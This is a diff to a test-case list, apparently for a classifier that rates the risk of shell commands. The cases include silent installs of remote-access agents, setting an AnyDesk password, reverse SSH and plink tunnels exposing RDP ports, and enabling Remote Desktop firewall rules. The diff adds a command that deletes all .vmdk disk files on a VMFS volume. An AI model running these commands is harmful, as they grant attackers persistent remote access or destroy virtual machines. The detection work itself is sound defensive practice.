@@ -31,8 +31,6 @@ CASES = [
     ("echo P@ss | AnyDesk.exe --set-password", "cmd", C),
     ("msiexec /qn /i C:\\Temp\\NinjaOne-Agent.msi", "cmd", C),
     ("msiexec /i C:\\Temp\\7z2301-x64.msi /qn", "cmd", M),
-    ("anydesk --get-id", "bash", S),
-    ("rustdesk.exe --version", "cmd", S),
     # reverse tunnels to login ports / SOCKS; ordinary forwards
     ("ssh -N -R 13389:127.0.0.1:3389 relay@198.51.100.3", "bash", C),
     ("plink.exe -ssh -l u -pw p -R 0.0.0.0:8080:127.0.0.1:3389 203.0.113.5", "cmd", C),
@@ -44,6 +42,9 @@ CASES = [
     ("ngrok http 8080", "bash", M),
     ("ngrok version", "bash", S),
     ("cloudflared tunnel list", "bash", S),
+    ("find /vmfs/volumes/6512ab-4c0d -name '*.vmdk' -delete", "bash", B),
+    ("anydesk --get-id", "bash", S),
+    ("splashtop.exe --autostart", "cmd", C),
     # the remote-desktop firewall group; one allow rule stays moderate (the corpora settle it)
     ('Enable-NetFirewallRule -DisplayGroup "Remote Desktop"', "powershell", C),
     (
